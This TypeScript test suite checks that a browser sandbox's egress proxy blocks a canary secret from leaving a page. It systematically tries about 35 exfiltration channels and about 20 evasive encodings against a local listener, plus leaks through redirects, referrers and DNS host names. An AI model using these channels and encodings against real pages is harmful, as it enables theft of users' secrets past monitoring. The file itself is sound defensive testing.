/** An address that may not be sent leaves by no exit of a page, in no encoding: a listener reads what arrives. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "chai";
import type { Browsers } from "../../../src/engine/browser/browsers.js";
import type { Lane } from "../../../src/engine/browser/network/lane.js";
import { createEgressProxy, type EgressProxy } from "../../../src/engine/egress-proxy.js";
import { createSecretScan } from "../../../src/engine/secret-scan/scan.js";
import { failureOf, resultOf, runOf, testBrowsers } from "./support.js";

const SECRET = "Canary/äß +value&of=a?setting";

/** Expressions over `s`, the secret: each a text that ends up in an address. */
const ENCODINGS: [string, string][] = [
  ["plain", "s"],
  ["reversed", "[...s].reverse().join('')"],
  ["URL", "encodeURIComponent(s)"],
  ["URL twice", "encodeURIComponent(encodeURIComponent(s))"],
  ["URL three times", "encodeURIComponent(encodeURIComponent(encodeURIComponent(s)))"],
  ["URL in lower case", "encodeURIComponent(s).replace(/%../g, (code) => code.toLowerCase())"],
  ["encodeURI", "encodeURI(s)"],
  ["a form's", "new URLSearchParams({ s }).toString()"],
  ["every byte escaped", "bytes.map((b) => '%' + b.toString(16).padStart(2, '0')).join('')"],
  ["JSON", "JSON.stringify({ s })"],
  ["JSON, URL", "encodeURIComponent(JSON.stringify({ s }))"],
  ["hex", "bytes.map((b) => b.toString(16).padStart(2, '0')).join('')"],
  ["hex in capitals", "bytes.map((b) => b.toString(16).padStart(2, '0')).join('').toUpperCase()"],
  ["base64", "base64('')"],
  ["base64, shifted by one", "base64('x')"],
  ["base64, shifted by two", "base64('xy')"],
  ["base64, URL", "encodeURIComponent(base64(''))"],
  ["base64url", "base64('').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')"],
  ["base64url, shifted by one", "base64('x').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')"],
  ["base64url, shifted by two", "base64('xy').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')"],
];

/** Code that sends U (http) or W (ws); each another exit of a page. */
const EXITS: [string, string][] = [
  ["fetch", "await fetch(U)"],
  ["fetch that outlives the page", "fetch(U, { keepalive: true })"],
  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', U); x.send()"],
  ["a synchronous XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', U, false); x.send()"],
  ["a beacon", "navigator.sendBeacon(U, 'x')"],
  ["an image", "new Image().src = U"],
  ["a script", "element('script', 'src')"],
  ["a dynamic import", "await import(U)"],
  ["a style sheet", "element('link', 'href', { rel: 'stylesheet' })"],
  ["a prefetch", "element('link', 'href', { rel: 'prefetch' })"],
  ["a preload", "element('link', 'href', { rel: 'preload', as: 'fetch' })"],
  [
    "CSS",
    "const e = document.createElement('style'); e.textContent = 'body { background: url(\"' + U + '\") }'; document.head.append(e)",
  ],
  ["a font", "await new FontFace('f', 'url(\"' + U + '\")').load()"],
  ["EventSource", "new EventSource(U)"],
  ["a frame", "element('iframe', 'src')"],
  ["an object", "element('object', 'data')"],
  ["a video", "element('video', 'src', { preload: 'auto' })"],
  [
    "a form",
    "document.body.innerHTML = '<iframe name=f></iframe>'; const e = document.createElement('form'); e.method = 'post'; e.action = U; e.target = 'f'; document.body.append(e); e.submit()",
  ],
  [
    "a form's fields",
    "document.body.innerHTML = '<iframe name=f></iframe><form target=f><input name=n></form>'; const e = document.forms[0]; e.action = BASE; e.n.value = TEXT; e.submit()",
  ],
  [
    "a ping",
    "const a = document.createElement('a'); a.href = '#'; a.ping = encodeURI(U); document.body.append(a); a.click()",
  ],
  ["a navigation", "location.href = U"],
  ["a window", "open(U)"],
  ["a window without an opener", "open(U, '_blank', 'noopener')"],
  ["WebSocket", "new WebSocket(W)"],
  ["a WebSocket stream", "await new WebSocketStream(W).opened"],
  ["a preconnect", "element('link', 'href', { rel: 'preconnect' })"],
  ["a frame's script", "frame('fetch(' + JSON.stringify(U) + ')')"],
  ["a frame's WebSocket", "frame('new WebSocket(' + JSON.stringify(W) + ')')"],
  [
    "a data frame's WebSocket",
    // Read by another charset the text would be another, which nobody knows for the secret.
    "element('iframe', 'src', {}, 'data:text/html;charset=utf-8,' + encodeURIComponent(script('new WebSocket(' + JSON.stringify(W) + ')')))",
  ],
  ["a worker's fetch", "worker('fetch(' + JSON.stringify(U) + ')')"],
  ["a worker's import", "worker('importScripts(' + JSON.stringify(U) + ')')"],
  ["a worker's WebSocket", "worker('new WebSocket(' + JSON.stringify(W) + ')')"],
  [
    "a worker's worker's WebSocket",
    "worker('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify('new WebSocket(' + JSON.stringify(W) + ')') + '])))')",
  ],
  ["a shared worker", "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))"],
  ["a worklet", "await new AudioContext().audioWorklet.addModule(U)"],
];

const TOOLS = `
  const script = (code) => "<script>" + code + "</scr" + "ipt>";
  const element = (name, key, more = {}, value = U) => { const e = document.createElement(name); Object.assign(e, more); e[key] = value; document.body.append(e); };
  const frame = (code) => element("iframe", "srcdoc", {}, script(code));
  const worker = (code) => { new Worker(URL.createObjectURL(new Blob([code]))).onerror = () => {}; };`;

describe("addresses that a run may not send", () => {
  let browsers: Browsers;
  let proxy: EgressProxy;
  let server: Server;
  let port: number;
  let arrived: string[] = [];
  const scan = createSecretScan([{ name: "_secret", value: SECRET, whole: false }]);

  /** Sends each text that `texts` (an expression) gives by one exit, waits, and then sends a harmless request. */
  const codeFor = (way: string, texts: string) => `const execute = async ({ payload: { s } }) => {
    const bytes = [...new TextEncoder().encode(s)];
    const base64 = (before) => btoa(before + String.fromCharCode(...bytes));
    for (const TEXT of ${texts}) {
      const BASE = "http://127.0.0.1:${port}/", U = BASE + "x?" + TEXT, W = U.replace("http", "ws");
      ${TOOLS}
      try { await Promise.race([(async () => { ${way} })(), new Promise((r) => setTimeout(r, 30))]); } catch {}
    }
    await new Promise((r) => setTimeout(r, 100));
    return fetch("http://127.0.0.1:${port}/harmless").then((answer) => answer.text(), String);
  }`;

  before(async () => {
    server = createServer((request, response) => {
      arrived.push(request.url!);
      response.setHeader("Access-Control-Allow-Origin", "*").end("here");
    });
    server.on("upgrade", (request, socket) => {
      arrived.push(request.url!);
      socket.destroy();
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    port = (server.address() as AddressInfo).port;
    proxy = createEgressProxy({ allowPrivateNetwork: true });
    browsers = testBrowsers({ openLane: () => proxy.openLane(), spares: 4 });
    await browsers.start();
  });
  beforeEach(() => {
    arrived = [];
  });
  after(async () => {
    await browsers.stop();
    proxy.close();
    server.close();
  });

  const payload = JSON.stringify({ s: SECRET });
  const mayRequest = (url: string) => scan.findInUrl(url) === null;

  const allTexts = `[${ENCODINGS.map(([, expression]) => expression).join(", ")}]`;
  for (const [title, way] of EXITS) {
    it(`leave by ${title} in none of ${ENCODINGS.length} encodings`, async () => {
      await browsers.run(runOf(codeFor(way, allTexts), { payload, mayRequest }));
      expect(arrived.filter((url) => url !== "/harmless" && url !== "/" && url !== "/x")).to.deep.equal([]);
    });
  }

  for (const [title, way] of EXITS.filter(([, code]) => /^await (fetch|import)|^fetch|Worker/.test(code))) {
    it(`leave a network realm by ${title} in none of them`, async () => {
      await browsers.run(runOf(codeFor(way, allTexts), { payload, mayRequest, realm: "network" }));
      expect(arrived.filter((url) => url !== "/harmless" && url !== "/" && url !== "/x")).to.deep.equal([]);
    });
  }

  it("leave a network realm by no redirect, and not as where a request comes from", async () => {
    const code = `const execute = async ({ payload: { s } }) => {
      const hidden = encodeURIComponent(s);
      const at = "http://127.0.0.1:${port}";
      await fetch(at + "/to?" + encodeURIComponent(at + "/x?" + hidden)).catch(() => {});
      await fetch(at + "/from", { referrer: location + "?" + hidden, referrerPolicy: "unsafe-url" }).catch(() => {});
      await fetch(new Request(at + "/x?" + hidden)).catch(() => {});
      return fetch(at + "/harmless").then((answer) => answer.text());
    }`.replace("location", JSON.stringify(runOf("").origin));
    expect(await resultOf(browsers, code, { payload, mayRequest, realm: "network" })).to.equal("here");
    expect(arrived).to.deep.equal(["/harmless"]);
  });

  it("leave no network realm that has served a run whose requests nobody judged", async () => {
    const changes = { payload, realm: "network" as const, isolationKey: "judged late" };
    await browsers.run(runOf(codeFor("await fetch(U)", "['plain']"), changes));
    expect(arrived).to.deep.equal(["/x?plain", "/harmless"]);
    arrived = [];
    await browsers.run(runOf(codeFor("await fetch(U)", allTexts), { ...changes, mayRequest }));
    expect(arrived).to.deep.equal(["/harmless"]);
  });

  it("arrive from a network realm when the judge lets them pass", async () => {
    const changes = { payload, mayRequest: () => true, realm: "network" as const };
    await browsers.run(runOf(codeFor("await fetch(U)", "['plain']"), changes));
    expect(arrived).to.deep.equal(["/x?plain", "/harmless"]);
  });

  const sent = "fetch|an image|a frame|EventSource|WebSocket|a worker's fetch|a worker's WebSocket|a form";
  for (const [title, way] of EXITS.filter(([name]) => sent.split("|").includes(name))) {
    it(`arrive by ${title} when the judge lets them pass`, async () => {
      await browsers.run(runOf(codeFor(way, "['plain']"), { payload, mayRequest: () => true }));
      expect(arrived).to.include("/x?plain");
    });
  }

  for (const [title, expression] of ENCODINGS) {
    it(`fail in the page, ${title}, and the run goes on`, async () => {
      const code = codeFor(
        "await fetch(U).then(() => arrivedAll.push(1), (e) => told.push(e.message))",
        `[${expression}]`,
      )
        .replace("const bytes", "const told = [], arrivedAll = []; const bytes")
        .replace(
          ".then((answer) => answer.text(), String)",
          ".then(async (answer) => [told, arrivedAll, await answer.text()])",
        );
      expect(await resultOf(browsers, code, { payload, mayRequest })).to.deep.equal([["Failed to fetch"], [], "here"]);
      expect(arrived).to.deep.equal(["/harmless"]);
    });
  }

  it("are looked up in no host name, whatever the case", async () => {
    const hosts: string[] = [];
    const hex = Buffer.from(SECRET).toString("hex");
    const code = `const execute = async () => {
      for (const host of ["${hex.slice(0, 40)}.${hex.slice(40)}.test", "a-${hex.slice(0, 30)}-${hex.slice(30)}.test"]) {
        await fetch("https://" + host + "/").catch(() => {});
        const link = document.createElement("link");
        Object.assign(link, { rel: "preconnect", href: "https://" + host }); document.head.append(link);
        new WebSocket("wss://" + host);
      }
      await new Promise((r) => setTimeout(r, 100));
    }`;
    await browsers.run(runOf(code, { mayRequest, onHost: (host) => hosts.push(host) }));
    expect(hosts).to.deep.equal([]);
  });

  it("cost the run its reason, which names neither the host nor the query", async () => {
    const code = `const execute = ({ payload }) => fetch("http://127.0.0.1:${port}/x?" + encodeURIComponent(payload.s))`;
    const { error } = await failureOf(browsers, code, { payload, mayRequest });
    expect(error.message).to.equal(
      "Failed to fetch an address: the request was blocked, its URL holds what must not leave",
    );
  });

  it("are held by the page's own guard where the lane does not ask", async () => {
    const openLane = async (): Promise<Lane> => {
      const lane = await proxy.openLane();
      const begin: Lane["begin"] = (run) => lane.begin({ onHost: run.onHost });
      const { proxyServer } = lane;
      return {
        proxyServer,
        begin,
        end: () => lane.end(),
        used: () => lane.used(),
        usedLate: () => lane.usedLate(),
        close: () => lane.close(),
      };
    };
    const trusting = testBrowsers({ openLane });
    await trusting.start();
    try {
      const unasked = EXITS.filter(([, way]) => !/\(W\)|WebSocket/.test(way));
      for (const [title, way] of unasked) {
        await trusting.run(runOf(codeFor(way, "[s]"), { payload, mayRequest }));
        expect(
          arrived.filter((url) => url.length > "/harmless".length),
          title,
        ).to.deep.equal([]);
      }
    } finally {
      await trusting.stop();
    }
  });
});
